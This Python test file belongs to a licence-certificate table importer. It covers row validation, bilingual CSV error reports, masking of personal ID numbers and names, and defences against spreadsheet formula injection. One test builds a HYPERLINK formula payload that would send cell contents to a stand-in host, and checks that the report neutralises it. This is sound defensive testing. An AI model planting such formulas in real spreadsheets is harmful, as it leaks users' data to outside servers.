from __future__ import annotations

import csv
import io
import json
from base64 import b64encode
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from api.tables import Entry, ErrorReport, Limits, Row, RowErrors, check_columns, check_row
from api.tables.error_report import ENCODING, HEADING, harmless
from api.tables.rows import refused
from ecert.licence.application import Application
from ecert.licence.types import find_type, load_catalogue
from tests.tables.tables import BUSINESS, company, credit_code, csv_bytes, rows_of, xlsx_bytes
from tests.world import DATA

IDENTITY = find_type("resident-identity-card")
WHO = "440101199001011239"


def entry(number: int) -> dict[str, Any]:
    row = company(number)
    names = {field.zh: field.name for field in BUSINESS.fields}
    return {
        "certificateTypeCode": BUSINESS.code,
        "certificateNumber": row["证照编号"],
        "certificateHolderName": row["持证主体"],
        "certificateHolderCode": row["持证主体代码"],
        "certificateHolderTypeCode": "001",
        "certificateEffectiveDate": "2026-01-15",
        "certificateExpiringDate": None,
        "certificateAreaCode": "440106",
        "extendInfo": {names[zh]: value for zh, value in row.items() if zh in names},
    }


def identity() -> dict[str, Any]:
    content: dict[str, Any] = json.loads((DATA / "resident-identity-card.json").read_text("utf-8"))[0]
    return content


def pointers(row: Row, **options: Any) -> list[str]:
    outcome = check_row(row, options.get("definitions", BUSINESS))
    assert isinstance(outcome, tuple)
    return [problem.pointer for problem in outcome]


def report(row: Row, definition: Any = BUSINESS) -> list[list[str]]:
    out = io.StringIO(newline="")
    outcome = check_row(row, definition)
    assert isinstance(outcome, tuple)
    ErrorReport(out).add(row.number, RowErrors(definition).explain(row, outcome))
    heading, *lines = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert tuple(heading) == HEADING
    return lines


def test_one_row_is_the_same_application_in_every_form() -> None:
    row = company(7)
    named = {field.zh: field.name for field in BUSINESS.fields}
    english = {named.get(zh, zh): value for zh, value in row.items()}
    tables = [
        csv_bytes([row]),
        csv_bytes([row], "gb18030", "\t"),
        csv_bytes([english]),
        xlsx_bytes([list(row), list(row.values())]),
        json.dumps(entry(7)).encode(),
    ]
    outcomes = [check_row(only, BUSINESS) for table in tables for only in rows_of(table, Limits())]
    assert len(outcomes) == 5
    assert isinstance(outcomes[0], Application)
    assert outcomes[0].holder_name == "示例样品第7有限公司"
    assert all(outcome == outcomes[0] for outcome in outcomes)


def test_a_line_of_ndjson_may_hold_a_portrait_and_the_report_never_shows_it() -> None:
    portrait = b"\x89PNG\r\n\x1a\n" + bytes(500 * 1024)
    line = json.dumps(entry(1) | {"portrait": b64encode(portrait).decode()}).encode()
    (row,) = rows_of(line, Limits())
    outcome = check_row(row, BUSINESS)
    assert isinstance(outcome, Application)
    assert outcome.portrait == portrait
    (shown,) = report(Row(1, Entry(entry(1) | {"portrait": b64encode(b"GIF89a").decode()})))
    assert shown[1:3] == ["portrait", "***"]


def test_a_row_may_name_its_type_where_a_table_has_several() -> None:
    cells = company(1) | {"证照类型代码": BUSINESS.code}
    assert isinstance(check_row(Row(2, cells), load_catalogue()), Application)
    assert isinstance(check_row(Row(2, Entry(entry(1))), load_catalogue()), Application)
    unknown = cells | {"证照类型代码": "11100000MB0341032Y999"}
    assert pointers(Row(2, unknown), definitions=load_catalogue()) == ["/certificateTypeCode"]
    other = entry(1) | {"certificateTypeCode": "11100000MB0341032Y999"}
    assert pointers(Row(2, Entry(other)), definitions=load_catalogue()) == ["/certificateTypeCode"]


def test_every_problem_of_a_row_is_found_and_none_repeats_a_value() -> None:
    cells = company(1) | {
        "持证主体代码": "91440106DE0000009X",
        "成立日期": "2026/1/15",
        "法定代表人": "",
        "备注": "张三的",
    }
    outcome = check_row(Row(5, cells), BUSINESS)
    assert isinstance(outcome, tuple)
    assert "张三" not in str(outcome)
    assert pointers(Row(5, cells)) == ["/备注"]
    del cells["备注"]
    assert pointers(Row(5, cells)) == [
        "/certificateHolderCode",
        "/extendInfo/creditCode",
        "/extendInfo/legalRepresentative",
        "/extendInfo/establishmentDate",
    ]


def test_a_heading_is_held_against_its_licence_type_once() -> None:
    columns = tuple(company(1))
    assert check_columns(columns, BUSINESS) == ()
    assert check_columns((*columns, "关联证照标识", "证照类型代码"), BUSINESS) == ()
    wrong = tuple(column for column in columns if column not in ("持证主体", "住所", "注册资本"))
    found = check_columns((*wrong, "备注", "certificateNumber", "creditCode"), BUSINESS)
    assert [problem.pointer for problem in found] == [
        "/备注",
        "/certificateNumber",
        "/extendInfo/creditCode",
        "/certificateHolderName",
        "/extendInfo/domicile",
    ]


@pytest.mark.parametrize("value", [7, [], None, {}, {"extendInfo": []}, {"a": {"b": 1}}])
def test_any_json_is_an_application_or_its_problems(value: object) -> None:
    assert pointers(Row(1, Entry(value)))
    assert report(Row(1, Entry(value)))


def test_a_row_that_could_not_be_read_has_that_problem() -> None:
    assert pointers(Row(9, refused("x", "某"))) == [""]


def test_the_report_names_row_item_value_and_what_was_expected_in_two_languages() -> None:
    cells = company(1) | {"成立日期": "2026/1/15", "法定代表人": ""}
    first, second = report(Row(5, cells))
    assert first[:3] == ["5", "法定代表人 legalRepresentative", ""]
    assert second[:3] == ["5", "成立日期 establishmentDate", "2026/1/15"]
    assert "yyyy-mm-dd" in second[3]
    assert "真实日期" in second[3]
    assert "real date" in second[4]


def test_the_report_names_items_of_all_licences_and_unknown_columns() -> None:
    (line,) = report(Row(2, company(1) | {"证照所属管辖属地编码": "9"}))
    assert line[1:3] == ["证照所属管辖属地编码 certificateAreaCode", "9"]
    (line,) = report(Row(2, company(1) | {"备注": "张三 13800000000"}))
    assert line[1:3] == ["备注", "***"]
    (line,) = report(Row(2, refused("x", "某")))
    assert line == ["2", "", "", "某", "x"]


def test_personal_data_is_masked_in_the_report() -> None:
    good = identity()
    assert isinstance(check_row(Row(1, Entry(good)), IDENTITY), Application)
    bad = good | {
        "certificateHolderCode": WHO[:-1] + "0",
        "certificateNumber": "",
        "certificateHolderName": "张小三^李四",
    }
    bad["extendInfo"] = dict.fromkeys(good["extendInfo"], "440101199001011230 ")
    lines = report(Row(1, Entry(bad)), IDENTITY)
    whole = str(lines)
    assert "19900101" not in whole
    assert "张小三" not in whole
    assert ["证照编号 certificateNumber", ""] in [line[1:3] for line in lines]
    assert ["持证主体 certificateHolderName", "张*三^李*"] in [line[1:3] for line in lines]
    assert ["持证主体代码 certificateHolderCode", "4401**********1230"] in [
        line[1:3] for line in report(Row(1, Entry(good | {"certificateHolderCode": WHO[:-1] + "0"})), IDENTITY)
    ]


def test_a_holder_of_unknown_kind_is_masked_as_a_person_and_an_enterprise_is_not() -> None:
    unknown = company(1) | {"持证主体代码类型代码": "9", "持证主体代码": "x" * 8, "持证主体": " 张小三"}
    shown = {line[1]: line[2] for line in report(Row(1, unknown))}
    assert shown["持证主体 certificateHolderName"] == " 张*三"
    known = company(1) | {"持证主体代码": credit_code(1)[:-1] + "I"}
    shown = {line[1]: line[2] for line in report(Row(1, known))}
    assert shown["持证主体代码 certificateHolderCode"] == credit_code(1)[:-1] + "I"


def test_a_citizen_number_in_the_wrong_column_is_masked() -> None:
    (line,) = report(Row(1, company(1) | {"成立日期": f"号{WHO}"}))
    assert line[2] == "号4401**********1239"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "|", "%"])
def test_no_cell_of_the_report_is_a_formula(start: str) -> None:
    payload = f'{start}HYPERLINK("http://x.example/?"&A1,"见此")'
    (line,) = report(Row(1, company(1) | {"成立日期": payload}))
    assert line[2] == f"'{payload}"[:65]
    (line,) = report(Row(1, company(1) | {"=1+1": "x"}))
    assert line[1] == "'=1+1"


@settings(deadline=None)
@given(st.text(max_size=30))
def test_what_is_harmless_never_begins_like_a_formula(text: str) -> None:
    assert harmless(text).lstrip(" ")[:1] not in set("=+-@\t\r\n＝＋－＠")
    assert harmless(text).removeprefix("'") in (text, text.removeprefix("'"))


def test_excel_takes_the_report_for_utf_8_and_a_spreadsheet_reads_it(tmp_path: Any) -> None:
    path = tmp_path / "errors.csv"
    with path.open("w", encoding=ENCODING, newline="") as out:
        row = Row(3, refused("a, b", '甲"乙'))
        ErrorReport(out).add(3, RowErrors(BUSINESS).explain(row, refused("a, b", '甲"乙')))
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith('3,,,"甲""乙","a, b"\r\n'.encode())


def test_long_values_are_shown_by_their_beginning() -> None:
    (line,) = report(Row(1, company(1) | {"成立日期": "x" * 500}))
    assert line[2] == "x" * 64


def test_openpyxl_and_we_read_the_same_cells() -> None:
    data = xlsx_bytes([list(company(1)), *[list(company(number).values()) for number in range(5)]])
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    theirs = [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
    ours = [list(row.content.values()) for row in rows_of(data) if isinstance(row.content, dict)]
    assert ours == theirs
